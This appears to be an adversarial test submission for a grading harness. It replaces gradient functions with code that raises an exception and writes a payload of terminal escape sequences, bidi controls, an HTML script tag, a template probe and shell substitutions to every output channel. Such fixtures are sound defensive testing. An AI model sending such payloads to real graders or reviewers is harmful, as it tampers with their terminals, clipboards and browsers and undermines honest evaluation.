# attack: act on the terminal or browser of whoever reads: OSC 8 links, OSC 52 clipboard, titles, HTML, bidi, in every text there is
# asset: machine, grades
# channel: feedback
# beats otter: no
# expect: raised
# place: after
# unseen: [\x1b\x9b\x07\u202e\u2066]|<script|\{\{
import sys
import warnings

EVIL = "\x1b]52;c;ZXZpbA==\x07\x1b]8;;file:///etc/passwd\x1b\\x\x1b]8;;\x07\x1b]0;t\x07\x9b2J\u202e\u2066</pre><script>alert(1)</script>{{7*7}}${HOME}`id`"


def attack(*args):
    print(EVIL)
    sys.stderr.write(EVIL)
    warnings.warn(EVIL)
    kind = type("Error" + EVIL, (ValueError,), {"__module__": EVIL, "__qualname__": EVIL})
    error = kind(EVIL)
    error.add_note(EVIL)
    raise error from RuntimeError(EVIL)


product_gradients = mse_gradients = neuron_gradients = neuron_batch_gradients = (
    two_layer_gradients
) = attack
